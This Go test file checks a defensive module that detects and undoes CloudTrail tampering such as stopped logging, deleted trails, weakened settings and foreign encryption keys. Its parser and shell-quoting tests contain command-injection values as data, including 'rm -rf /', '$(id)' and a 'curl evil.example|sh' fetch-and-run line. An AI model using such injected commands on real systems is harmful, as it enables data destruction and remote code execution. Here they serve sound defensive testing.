package cloudtrailtamper

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail/types"
	"github.com/aws/smithy-go/middleware"

	"github.com/countermand/countermand/events"
	"github.com/countermand/countermand/remediations"
	"github.com/countermand/countermand/remediations/moduletest"
)

const (
	trailARN = "arn:aws:cloudtrail:eu-west-1:123456789012:trail/audit"
	orgARN   = "arn:aws:cloudtrail:eu-west-1:999999999999:trail/org-audit"

	ownKey     = "arn:aws:kms:eu-west-1:123456789012:key/2f0f1c55-0f7a-4f8e-9a53-8f6d6f1f6f01"
	foreignKey = "arn:aws:kms:eu-west-1:666666666666:key/9b1d7c0e-8b7c-4d9e-9a53-0f6d6f1f6f02"
)

// record is the EventBridge event of a call to CloudTrail, in the shape of real ones.
func record(name, request, response, more string) []byte {
	raw, err := events.Wrap(fmt.Appendf(nil, `{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole",
		"principalId":"AROAEXAMPLEEXAMPLE001:mallory","arn":"arn:aws:sts::123456789012:assumed-role/Admin/mallory",
		"accountId":"123456789012","accessKeyId":"ASIAEXAMPLEEXAMPLE01","sessionContext":{"sessionIssuer":{"type":"Role",
		"principalId":"AROAEXAMPLEEXAMPLE001","arn":"arn:aws:iam::123456789012:role/Admin","accountId":"123456789012",
		"userName":"Admin"},"attributes":{"creationDate":"2026-03-02T08:55:01Z","mfaAuthenticated":"false"}}},
		"eventTime":"2026-03-02T09:12:44Z","eventSource":"cloudtrail.amazonaws.com","eventName":%q,"awsRegion":"eu-west-1",
		"sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2.15.0 md/awscrt#0.19.19 command/cloudtrail",
		%s"requestParameters":%s,"responseElements":%s,"requestID":"3c2d5a7e-8a11-4c54-9d0e-0f2f3b6f9a11",
		"eventID":"6f1f3c0a-51b7-4f0e-8a5e-0d1c6f1b2c3d","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,
		"recipientAccountId":"123456789012","eventCategory":"Management"}`, name, more, request, response))
	if err != nil {
		panic(err)
	}
	return raw
}

func call(name, request, response string) []byte { return record(name, request, response, "") }

var (
	stopByName   = call("StopLogging", `{"name":"audit"}`, `null`)
	stopByARN    = call("StopLogging", `{"name":"`+trailARN+`"}`, `null`)
	stopOrg      = call("StopLogging", `{"name":"`+orgARN+`"}`, `null`)
	stopRefused  = record("StopLogging", `{"name":"audit"}`, `null`, `"errorCode":"TrailNotFoundException","errorMessage":"Unknown trail: audit for the user: 123456789012",`)
	deleted      = call("DeleteTrail", `{"name":"audit"}`, `null`)
	insights     = call("PutInsightSelectors", `{"trailName":"audit","insightSelectors":[]}`, `{"trailARN":"`+trailARN+`","insightSelectors":[]}`)
	strengthened = update(`"isMultiRegionTrail":true,"enableLogFileValidation":true`, `"isMultiRegionTrail":true,"logFileValidationEnabled":true`)
	weakened     = update(`"isMultiRegionTrail":false,"includeGlobalServiceEvents":false,"enableLogFileValidation":false,"kmsKeyId":""`,
		`"isMultiRegionTrail":false,"includeGlobalServiceEvents":false,"logFileValidationEnabled":false`)
	keyAway    = update(`"kmsKeyId":"`+foreignKey+`"`, `"isMultiRegionTrail":true,"kmsKeyId":"`+foreignKey+`"`)
	keyAlias   = update(`"kmsKeyId":"arn:aws:kms:eu-west-1:666666666666:alias/x"`, `"isMultiRegionTrail":true,"kmsKeyId":"`+foreignKey+`"`)
	keyChanged = update(`"kmsKeyId":"alias/audit"`, `"isMultiRegionTrail":true,"kmsKeyId":"`+ownKey+`"`)
	unwatched  = update(`"cloudWatchLogsLogGroupArn":"","cloudWatchLogsRoleArn":""`, `"isMultiRegionTrail":true`)
	redirected = update(`"s3BucketName":"elsewhere"`, `"s3BucketName":"elsewhere","isMultiRegionTrail":true`)
	blinded    = call("PutEventSelectors",
		`{"trailName":"audit","eventSelectors":[{"readWriteType":"ReadOnly","includeManagementEvents":false,"dataResources":[{"type":"AWS::S3::Object","values":[]}],"excludeManagementEventSources":[]}]}`,
		`{"trailARN":"`+trailARN+`","eventSelectors":[{"readWriteType":"ReadOnly","includeManagementEvents":false,"dataResources":[{"type":"AWS::S3::Object","values":[]}],"excludeManagementEventSources":[]}]}`)
	own = [][]byte{byCountermand(call("StartLogging", `{"name":"`+trailARN+`"}`, `null`))}
)

// byCountermand is the event of another call, made by the module's own role.
func byCountermand(event []byte) []byte {
	return []byte(strings.NewReplacer("Admin", "countermand-cloudtrail-tamper", "mallory", "countermand-cloudtrail-tamper",
		"6f1f3c0a", "7a2b4d1c").Replace(string(event)))
}

func update(request, response string) []byte {
	return call("UpdateTrail", `{"name":"audit",`+request+`}`,
		`{"name":"audit","trailARN":"`+trailARN+`","isOrganizationTrail":false,`+response+`}`)
}

// trail is the world: one trail.
type trail struct {
	Gone, Logging  bool
	Trail          types.Trail
	Selectors      []types.EventSelector
	FieldSelectors []types.AdvancedFieldSelector
}

// healthy is a trail that nothing is wrong with.
func healthy() *trail {
	return &trail{Logging: true, Trail: types.Trail{
		Name: aws.String("audit"), TrailARN: aws.String(trailARN), HomeRegion: aws.String("eu-west-1"),
		S3BucketName: aws.String("audit-logs"), IsMultiRegionTrail: aws.Bool(true), IncludeGlobalServiceEvents: aws.Bool(true),
		LogFileValidationEnabled: aws.Bool(true), KmsKeyId: aws.String(ownKey),
		CloudWatchLogsLogGroupArn: aws.String("arn:aws:logs:eu-west-1:123456789012:log-group:audit:*"),
		HasInsightSelectors:       aws.Bool(true), IsOrganizationTrail: aws.Bool(false), HasCustomEventSelectors: aws.Bool(false),
	}, Selectors: []types.EventSelector{{ReadWriteType: types.ReadWriteTypeAll, IncludeManagementEvents: aws.Bool(true)}}}
}

func world(changes ...func(*trail)) func() *moduletest.World {
	return func() *moduletest.World {
		t := healthy()
		for _, change := range changes {
			change(t)
		}
		return &moduletest.World{State: t, Answers: t.answers(), Change: func() { t.Logging = false }}
	}
}

func (t *trail) answers() []moduletest.Answer {
	find := func(name *string) error {
		if t.Gone || aws.ToString(name) != aws.ToString(t.Trail.TrailARN) {
			return moduletest.Error("TrailNotFoundException")
		}
		return nil
	}
	return []moduletest.Answer{
		moduletest.On(func(in *cloudtrail.ListTrailsInput) (*cloudtrail.ListTrailsOutput, error) {
			if t.Gone {
				return &cloudtrail.ListTrailsOutput{}, nil
			}
			return &cloudtrail.ListTrailsOutput{Trails: []types.TrailInfo{{TrailARN: t.Trail.TrailARN, Name: t.Trail.Name, HomeRegion: t.Trail.HomeRegion}}}, nil
		}),
		moduletest.On(func(in *cloudtrail.GetTrailInput) (*cloudtrail.GetTrailOutput, error) {
			return &cloudtrail.GetTrailOutput{Trail: &t.Trail}, find(in.Name)
		}),
		moduletest.On(func(in *cloudtrail.GetTrailStatusInput) (*cloudtrail.GetTrailStatusOutput, error) {
			return &cloudtrail.GetTrailStatusOutput{IsLogging: aws.Bool(t.Logging)}, find(in.Name)
		}),
		moduletest.On(func(in *cloudtrail.GetEventSelectorsInput) (*cloudtrail.GetEventSelectorsOutput, error) {
			out := &cloudtrail.GetEventSelectorsOutput{EventSelectors: t.Selectors}
			if t.FieldSelectors != nil {
				out.AdvancedEventSelectors = []types.AdvancedEventSelector{{FieldSelectors: t.FieldSelectors}}
			}
			return out, find(in.TrailName)
		}),
		moduletest.On(func(in *cloudtrail.StartLoggingInput) (*cloudtrail.StartLoggingOutput, error) {
			if err := find(in.Name); err != nil {
				return nil, err
			}
			t.Logging = true
			return &cloudtrail.StartLoggingOutput{}, nil
		}),
		moduletest.On(func(in *cloudtrail.StopLoggingInput) (*cloudtrail.StopLoggingOutput, error) {
			if err := find(in.Name); err != nil {
				return nil, err
			}
			t.Logging = false
			return &cloudtrail.StopLoggingOutput{}, nil
		}),
	}
}

func stopped(t *trail)      { t.Logging = false }
func removed(t *trail)      { t.Gone = true }
func singleRegion(t *trail) { t.Trail.IsMultiRegionTrail = aws.Bool(false) }
func elsewhere(t *trail)    { t.Trail.S3BucketName = aws.String("elsewhere") }
func locked(t *trail)       { t.Trail.KmsKeyId = aws.String(foreignKey) }
func unlogged(t *trail)     { t.Trail.CloudWatchLogsLogGroupArn = nil }
func noInsights(t *trail)   { t.Trail.HasInsightSelectors = aws.Bool(false) }
func shadow(t *trail)       { t.Trail.HomeRegion = aws.String("us-east-1") }
func organisation(t *trail) { t.Trail.IsOrganizationTrail = aws.Bool(true) }

func readOnly(t *trail) {
	t.Trail.HasCustomEventSelectors = aws.Bool(true)
	t.Selectors = []types.EventSelector{{ReadWriteType: types.ReadWriteTypeReadOnly, IncludeManagementEvents: aws.Bool(false)}}
}

func dataOnly(t *trail) {
	t.Trail.HasCustomEventSelectors = aws.Bool(true)
	t.Selectors = nil
	t.FieldSelectors = []types.AdvancedFieldSelector{
		{Field: aws.String("eventCategory"), Equals: []string{"Data"}},
		{Field: aws.String("resources.type"), Equals: []string{"AWS::S3::Object"}},
	}
}

func bare(t *trail) {
	singleRegion(t)
	t.Trail.IncludeGlobalServiceEvents, t.Trail.LogFileValidationEnabled, t.Trail.KmsKeyId = aws.Bool(false), aws.Bool(false), nil
}

func foreign(t *trail) {
	organisation(t)
	t.Trail.TrailARN, t.Trail.Name = aws.String(orgARN), aws.String("org-audit")
}

func Test(t *testing.T) {
	acts := func(name string, event []byte, changes ...func(*trail)) moduletest.Case {
		return moduletest.Case{Name: name, Event: event, World: world(changes...), Acts: true, Own: own}
	}
	idle := func(name string, event []byte, changes ...func(*trail)) moduletest.Case {
		return moduletest.Case{Name: name, Event: event, World: world(changes...)}
	}
	// In a sweep nobody knows what was asked for, and a trail that is deleted or lives elsewhere is not listed.
	unswept := func(why, name string, event []byte, changes ...func(*trail)) moduletest.Case {
		c := acts(name, event, changes...)
		c.Unswept = why
		return c
	}
	const unasked, unlisted = "a trail may be meant to be like that", "it is in no list of this Region"
	moduletest.Run(t, Module,
		acts("stopped, named by name", stopByName, stopped),
		acts("stopped, named by ARN", stopByARN, stopped),
		acts("stopped, the organisation's own trail", stopByARN, stopped, organisation),
		acts("stopped and blinded", stopByName, stopped, readOnly),
		acts("stopped, another account's", stopOrg, stopped, foreign),
		unswept(unlisted, "stopped, a shadow", stopByName, stopped, shadow),
		acts("stopped in the meantime", strengthened, stopped),
		unswept(unlisted, "deleted", deleted, removed),
		unswept(unlisted, "deleted after it was stopped", stopByName, removed),
		unswept(unasked, "blinded", blinded, readOnly),
		unswept(unasked, "blinded by advanced selectors", blinded, dataOnly),
		unswept(unasked, "weakened", weakened, bare),
		unswept(unasked, "redirected", redirected, elsewhere),
		unswept(unasked, "encrypted with another account's key", keyAway, locked),
		unswept(unasked, "encrypted with another account's alias", keyAlias, locked),
		unswept(unasked, "delivery to CloudWatch Logs removed", unwatched, unlogged),
		unswept(unasked, "without insights", insights, noInsights),
		unswept(unasked, "no longer the organisation's", update(`"isOrganizationTrail":false`, `"isMultiRegionTrail":true`)),
		idle("the organisation's again", update(`"isOrganizationTrail":false`, `"isMultiRegionTrail":true`), organisation),
		idle("logging again", stopByName),
		idle("the stop was refused", stopRefused, stopped),
		idle("another account's, logging", stopOrg, foreign),
		idle("deleted and made again", deleted),
		idle("selectors put back", blinded),
		idle("settings put back", weakened),
		idle("strengthened", strengthened),
		idle("changed in another way than its weakness", strengthened, singleRegion, noInsights),
		idle("never had insights or a key", stopByName, bare, noInsights),
		idle("bucket put back", redirected),
		idle("key put back", keyAway),
		idle("encrypted with another of its own keys", keyChanged),
		idle("always had another account's key", strengthened, locked),
		idle("delivery to CloudWatch Logs put back", unwatched),
		idle("never delivered to CloudWatch Logs", strengthened, unlogged),
		idle("insights put back", insights),
	)
}

// found runs the guard alone.
func found(t *testing.T, raw []byte, changes ...func(*trail)) *remediations.Finding {
	t.Helper()
	event, err := events.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	resources, err := Module.Suspects(event)
	if err != nil || len(resources) != 1 {
		t.Fatalf("suspects %v, %v", resources, err)
	}
	w := world(changes...)()
	finding, err := Module.Guard(context.Background(), &remediations.Run{Event: &event, AWS: answering(w.State.(*trail))}, resources[0])
	if err != nil || finding == nil {
		t.Fatalf("finding %v, %v", finding, err)
	}
	return finding
}

// answering is a configuration whose clients see a trail.
func answering(t *trail) aws.Config {
	return aws.Config{Region: "eu-west-1", APIOptions: []func(*middleware.Stack) error{func(stack *middleware.Stack) error {
		return stack.Initialize.Add(middleware.InitializeMiddlewareFunc("test", func(_ context.Context, in middleware.InitializeInput, _ middleware.InitializeHandler) (out middleware.InitializeOutput, metadata middleware.Metadata, err error) {
			switch in.Parameters.(type) {
			case *cloudtrail.GetTrailInput:
				out.Result = &cloudtrail.GetTrailOutput{Trail: &t.Trail}
				if t.Gone {
					err = moduletest.Error("TrailNotFoundException")
				}
			case *cloudtrail.GetTrailStatusInput:
				out.Result = &cloudtrail.GetTrailStatusOutput{IsLogging: aws.Bool(t.Logging)}
			case *cloudtrail.GetEventSelectorsInput:
				out.Result = &cloudtrail.GetEventSelectorsOutput{EventSelectors: t.Selectors}
			}
			return out, metadata, err
		}), middleware.After)
	}}}
}

func TestFinding(t *testing.T) {
	for _, c := range []struct {
		name      string
		event     []byte
		changes   []func(*trail)
		alertOnly bool
		reason    string
		fix       string // what the fix ends with
	}{
		{"stopped", stopByName, []func(*trail){stopped}, false, "the trail is not logging",
			"aws cloudtrail start-logging --region 'eu-west-1' --name '" + trailARN + "'"},
		{"stopped and blinded", stopByName, []func(*trail){stopped, readOnly}, false,
			"the trail is not logging, and does not record all management events that write",
			"aws cloudtrail start-logging --region 'eu-west-1' --name '" + trailARN + "'"},
		{"shadow", stopByName, []func(*trail){stopped, shadow}, true,
			`the trail is not logging; its home Region is "us-east-1", where it has to be restarted`, "--name '" + trailARN + "'"},
		{"foreign", stopOrg, []func(*trail){stopped, foreign}, true,
			"the trail is not logging; account 999999999999 owns it, and has to restart it", "--name '" + orgARN + "'"},
		{"deleted", deleted, []func(*trail){removed}, true,
			"the trail does not exist any more, and its settings are not in the record of its deletion",
			"--name 'audit' --s3-bucket-name BUCKET --is-multi-region-trail --enable-log-file-validation\n" +
				"aws cloudtrail start-logging --region 'eu-west-1' --name '" + trailARN + "'"},
		{"blinded", blinded, []func(*trail){readOnly}, true, "the trail does not record all management events that write",
			`--event-selectors '[{"ReadWriteType":"All","IncludeManagementEvents":true}]'`},
		{"weakened", weakened, []func(*trail){bare}, true,
			"the trail records one Region only, and leaves out global services such as IAM, and does not protect its log files against changes, and does not encrypt its log files with a KMS key",
			"--kms-key-id KEY"},
		{"redirected", redirected, []func(*trail){elsewhere}, true, "the trail was told to put its log files into bucket elsewhere", "--s3-bucket-name BUCKET"},
		{"another account's key", keyAway, []func(*trail){locked}, true,
			"the trail was told to encrypt its log files with " + foreignKey + ", a key of account 666666666666", "--kms-key-id KEY"},
		{"unwatched", unwatched, []func(*trail){unlogged}, true, "the trail does not deliver its events to CloudWatch Logs",
			"--cloud-watch-logs-log-group-arn LOG_GROUP_ARN --cloud-watch-logs-role-arn ROLE_ARN"},
		{"insights", insights, []func(*trail){noInsights}, true, "the trail has its Insights off", "]'"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := found(t, c.event, c.changes...)
			if f.AlertOnly != c.alertOnly || f.Reason != c.reason || !strings.HasSuffix(f.Fix, c.fix) {
				t.Errorf("alert only %t, %q, fix %q", f.AlertOnly, f.Reason, f.Fix)
			}
			if f.AlertOnly != (f.Revert == "") {
				t.Errorf("alert only %t, but revert is %q", f.AlertOnly, f.Revert)
			}
		})
	}
}

func TestSuspects(t *testing.T) {
	for _, c := range []struct{ region, request, response, want string }{
		{"eu-west-1", `{"name":"audit"}`, `null`, trailARN},
		{"eu-west-1", `{"name":"` + trailARN + `"}`, `null`, trailARN},
		{"eu-west-1", `{"trailName":"audit"}`, `null`, trailARN},
		{"eu-west-1", `{"name":"audit"}`, `{"trailARN":"` + orgARN + `"}`, orgARN},
		{"cn-north-1", `{"name":"audit"}`, `null`, "arn:aws-cn:cloudtrail:cn-north-1:123456789012:trail/audit"},
		{"us-gov-west-1", `{"name":"audit"}`, `null`, "arn:aws-us-gov:cloudtrail:us-gov-west-1:123456789012:trail/audit"},
		{"us-east-1", `{"name":"` + trailARN + `"}`, `null`, trailARN},
		{"eu-west-1", `null`, `null`, ""},
		{"eu-west-1", `{"name":""}`, `null`, ""},
		{"eu-west-1", `{"name":"audit; rm -rf /"}`, `null`, ""},
		{"eu-west-1", `{"name":"arn:aws:cloudtrail:evil.example/x:123456789012:trail/audit"}`, `null`, ""},
		{"eu-west-1", `{"name":"arn:aws:cloudtrail:eu-west-1:123456789012:eventdatastore/audit"}`, `null`, ""},
		{"eu-west-1", `{"name":"arn:aws:cloudtrail"}`, `null`, ""},
		{"eu-west-1", `{"name":"arn:aws$(id):cloudtrail:eu-west-1:123456789012:trail/audit"}`, `null`, ""},
		{"eu-west-1", `{"name":"arn:aws;curl evil.example|sh;:cloudtrail:eu-west-1:123456789012:trail/audit"}`, `null`, ""},
		{"eu-west-1", `{"name":"arn::cloudtrail:eu-west-1:123456789012:trail/audit"}`, `null`, ""},
		{"eu-west-1", `{"name":"audit"}`, `{"trailARN":"arn:aws-iso-b\n:cloudtrail:eu-west-1:123456789012:trail/audit"}`, ""},
		{"us-isob-east-1", `{"name":"audit"}`, `null`, "arn:aws-iso-b:cloudtrail:us-isob-east-1:123456789012:trail/audit"},
		{"eu-west-1", `{"name":{"nested":true}}`, `null`, ""},
	} {
		raw := []byte(strings.ReplaceAll(string(call("StopLogging", c.request, c.response)), `"region":"eu-west-1"`, `"region":"`+c.region+`"`))
		event, err := events.Parse(raw)
		if err != nil {
			t.Fatal(err)
		}
		got, err := suspects(event)
		switch {
		case c.want == "":
			if err == nil {
				t.Errorf("%s: suspects %v, want an error", c.request, got)
			}
		case err != nil || len(got) != 1 || got[0].ID != c.want:
			t.Errorf("%s, %s in %s: %v, %v; want %s", c.request, c.response, c.region, got, err, c.want)
		case got[0].Account != "123456789012" || got[0].Region != strings.Split(c.want, ":")[3]:
			t.Errorf("%s: %+v", c.request, got[0])
		}
	}
}

// Whatever a trail's name may become one day, the shell gets it as one word.
func TestCommandQuotes(t *testing.T) {
	r := remediations.Resource{Region: "eu;west", ID: `a'$(id)' b`}
	want := `aws cloudtrail start-logging --region 'eu;west' --name 'a'\''$(id)'\'' b'`
	if got := command(r, "start-logging", "--name"); got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	if got := gone(r, "x`id`").Fix; strings.Count(got, "--region 'eu;west'") != 3 || !strings.Contains(got, "--name 'x`id`'") {
		t.Errorf("fix:\n%s", got)
	}
}

func TestRecordsWrites(t *testing.T) {
	for _, c := range []struct {
		selectors string // as the API answers
		want      bool
	}{
		{`{}`, true},
		{`{"EventSelectors":[{"ReadWriteType":"All","IncludeManagementEvents":true}]}`, true},
		{`{"EventSelectors":[{"ReadWriteType":"WriteOnly","IncludeManagementEvents":true}]}`, true},
		{`{"EventSelectors":[{"ReadWriteType":"All","IncludeManagementEvents":true,"ExcludeManagementEventSources":["kms.amazonaws.com"]}]}`, true},
		{`{"EventSelectors":[{"ReadWriteType":"All","IncludeManagementEvents":true,"ExcludeManagementEventSources":["iam.amazonaws.com"]}]}`, false},
		{`{"EventSelectors":[{"ReadWriteType":"ReadOnly","IncludeManagementEvents":true}]}`, false},
		{`{"EventSelectors":[{"ReadWriteType":"All","IncludeManagementEvents":false}]}`, false},
		{`{"EventSelectors":[{"ReadWriteType":"ReadOnly","IncludeManagementEvents":true},{"ReadWriteType":"WriteOnly","IncludeManagementEvents":true}]}`, true},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]}`), true},
		{advanced(`{"Field":"eventCategory","Equals":["Data"]}`), false},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]},{"Field":"readOnly","Equals":["false"]}`), true},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]},{"Field":"readOnly","Equals":["true"]}`), false},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]},{"Field":"eventSource","NotEquals":["kms.amazonaws.com","rdsdata.amazonaws.com"]}`), true},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]},{"Field":"eventSource","NotEquals":["iam.amazonaws.com"]}`), false},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]},{"Field":"eventSource","Equals":["ec2.amazonaws.com"]}`), false},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]},{"Field":"eventSource","NotStartsWith":["i"]}`), false},
		{advanced(`{"Field":"eventCategory","Equals":["Management"]},{"Field":"userIdentity.arn","NotEquals":["arn:aws:iam::123456789012:user/mallory"]}`), false},
		{advanced(`{"Field":"readOnly","Equals":["false"]}`), false},
	} {
		var out cloudtrail.GetEventSelectorsOutput
		if err := json.Unmarshal([]byte(c.selectors), &out); err != nil {
			t.Fatal(err)
		}
		if got := recordsWrites(&out, false); got != c.want {
			t.Errorf("%s: %t", c.selectors, got)
		}
	}
	if recordsWrites(&cloudtrail.GetEventSelectorsOutput{}, true) {
		t.Error("custom selectors that are not there record nothing")
	}
}

func advanced(fields string) string {
	return `{"AdvancedEventSelectors":[{"FieldSelectors":[` + fields + `]}]}`
}
